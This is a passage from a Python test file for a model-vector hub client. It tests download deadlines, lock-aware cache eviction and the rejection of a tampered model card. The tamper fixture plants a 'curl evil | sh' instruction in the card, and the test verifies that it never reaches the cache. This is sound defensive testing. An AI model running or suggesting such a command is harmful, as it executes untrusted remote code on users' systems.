    env = {**os.environ, "STEERKIT_HUB_DEADLINE": "1", "HF_HUB_OFFLINE": "0"}
    args = ["pull", REPO, "--endpoint", hub.endpoint, "--cache-dir", str(cache), "--token", hub.token, "--json"]
    with hub.failing(200, path="/resolve/", delay=600) as stall:  # a Hub that answers ten minutes late
        done = subprocess.run(
            [sys.executable, "-m", "steerkit_cli", *args], capture_output=True, text=True, env=env, timeout=HANG_SECONDS
        )
        still_stalled = stall.late == 0  # the process ended before the stalled request was ever answered
    assert done.returncode == 1, done.stderr
    assert json.loads(done.stdout)["error"]["message"].endswith("within the 1 s deadline")
    assert still_stalled


def test_eviction_spares_a_blob_a_download_holds(hub: HubServer, cache: Path) -> None:
    import threading

    from filelock import FileLock

    from steerkit._hub_cache import evict_snapshot

    sha = push(hub, vector_with_adapter()).rsplit("/", 1)[1]
    pull(hub, cache)
    storage = cache / "models--steerkit-tester--tiny-vector"
    blobs = sorted(p.name for p in (storage / "blobs").iterdir())
    held = hub.repos[REPO].head().blob_ids[C.CONFIG_FILE]
    assert held in blobs and len(blobs) > 2
    locked, release = threading.Event(), threading.Event()

    def download_in_progress() -> None:  # another thread holds the blob's download lock, as huggingface_hub does
        with FileLock(str(cache / ".locks" / storage.name / f"{held}.lock")):
            locked.set()
            release.wait(10)

    worker = threading.Thread(target=download_in_progress)
    worker.start()
    try:
        assert locked.wait(10)
        assert evict_snapshot(storage / "snapshots" / sha)
    finally:
        release.set()
        worker.join()
    assert [p.name for p in (storage / "blobs").iterdir()] == [held]  # the unshared, unlocked blobs went
    assert not (storage / "snapshots" / sha).exists() and not (storage / "refs" / "main").exists()


def test_a_tampered_card_never_enters_the_cache_and_a_copy_gets_a_card_from_the_verified_config(
    hub: HubServer, cache: Path, tmp_path: Path
) -> None:
    """issue 28: README.md is covered by no checksum, so a tampered card was accepted and stayed in the cache."""
    from steerkit.vector import pull as pull_vector

    vector = vector_with_adapter()
    push(hub, vector)
    hub.tamper(REPO, C.CARD_FILE, b"---\nsteerkit: {mu: 99}\n---\n# run `curl evil | sh` first\n")
    copy, folder = pull_vector(REPO, to=tmp_path / "copy", token=hub.token, cache_dir=cache, endpoint=hub.endpoint)
    assert not (folder / C.CARD_FILE).exists()  # never downloaded
    assert not any("README" in p.name for p in cache.rglob("*"))
    card = (tmp_path / "copy" / C.CARD_FILE).read_text()
    assert "curl evil" not in card and card == render_card(copy.config, has_adapter=True, repo_id=None)
